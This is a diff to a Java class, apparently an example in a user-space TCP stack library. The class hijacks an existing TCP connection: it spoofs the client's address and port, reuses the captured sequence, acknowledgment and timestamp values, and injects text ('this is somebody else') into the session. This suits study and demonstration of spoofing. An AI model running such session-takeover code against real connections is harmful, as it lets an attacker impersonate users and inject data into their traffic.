@@ -58,6 +58,14 @@ final class Takeover {
         return StandardCharsets.ISO_8859_1.decode(bytes).toString();
     }
 
+    /** What can be known without having seen the SYN: the timestamps, which Linux always puts first. */
+    private static TcpHandshake handshake() {
+        ByteBuffer options = ByteBuffer.wrap(TCP.options());
+        return options.limit() < 12
+                ? TcpHandshake.PLAIN
+                : new TcpHandshake(0, 0, 0, false, true, options.getInt(8), options.getInt(4) + 1);
+    }
+
     /** Goes on where the client's last segment, which the headers are of, ended. */
     private static void impersonate(Device device, int said) throws IOException {
         NetStack stack = NetStack.builder(device)
@@ -71,8 +79,9 @@ final class Takeover {
                         TcpEndpoint.of(IP.src().toString(), TCP.srcPort()),
                         TcpOptions.DEFAULT);
         session.addStateListener((s, before, after) -> System.out.println(after));
-        session.adopt(
-                (int) TCP.sequenceNumber() + said, TCP.window(), (int) TCP.acknowledgmentNumber(), TcpHandshake.PLAIN);
+        int next = (int) TCP.sequenceNumber() + said;
+        int window = 1000; // until the server says how much it takes
+        session.adopt(next, window, (int) TCP.acknowledgmentNumber(), handshake());
         session.trySend(StandardCharsets.US_ASCII.encode("this is somebody else\n"));
         session.shutdownOutput();
         new StackLoop(stack).run();
